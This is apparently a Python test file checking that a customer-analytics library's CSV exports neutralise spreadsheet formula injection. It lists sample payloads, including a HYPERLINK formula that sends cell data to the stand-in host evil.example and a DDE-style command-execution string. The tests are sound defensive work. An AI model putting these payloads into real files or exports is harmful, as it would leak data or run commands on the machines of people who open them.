"""CSV exports are opened in spreadsheets: a cell a customer wrote ("=HYPERLINK(…)" in a
comment, "@SUM(…)" as a touchpoint) must not run as a formula there (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

import empreinte
from empreinte.analytics.cx.rendering import to_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_detractor_comments_and_breakdown_labels_are_not_formulas(tmp_path: Path) -> None:
    messages = [
        {
            "type": "track",
            "userId": f"u-{i}",
            "event": "NPS Answered",
            "timestamp": f"2026-03-{i + 1:02d}T10:00:00Z",
            "properties": {"score": 2, "comment": attack, "touchpoint": attack},
        }
        for i, attack in enumerate(ATTACKS)
    ]
    with empreinte.open(tmp_path / "ws") as ws:
        assert ws.ingest(messages).stored == len(ATTACKS)
        now = datetime(2026, 3, 20, tzinfo=UTC)
        detractors = to_csv([d.to_dict() for d in ws.cx.detractors(days=60, until=now)])
        by_touchpoint = to_csv(ws.cx.nps(by="touchpoint", min_n=1).to_rows())
    for text in (detractors, by_touchpoint):
        cells = [cell for row in _cells(text) for cell in row]
        assert not [c for c in cells if c.startswith(DANGEROUS) and not _number(c)]
        # Shown as text, whole: the quote a spreadsheet hides, then the customer's words.
        for attack in ATTACKS:
            assert "'" + attack in cells, attack


texts = st.text() | st.builds(str.__add__, st.sampled_from(DANGEROUS), st.text())
values = st.one_of(texts, st.integers(), st.floats(allow_nan=False), st.none())


@given(st.lists(values, min_size=1, max_size=5))
def test_no_cell_starts_a_formula_and_numbers_stay_numbers(values: list[object]) -> None:
    row = {f"c{i}": v for i, v in enumerate(values)}
    [header, cells] = _cells(to_csv([row]))
    assert header == list(row)
    for value, cell in zip(values, cells, strict=True):
        if isinstance(value, str):
            assert not cell.startswith(DANGEROUS)
            assert cell in (value, "'" + value)
        elif isinstance(value, int | float):
            assert cell == str(value)  # -3 is a number, not a formula
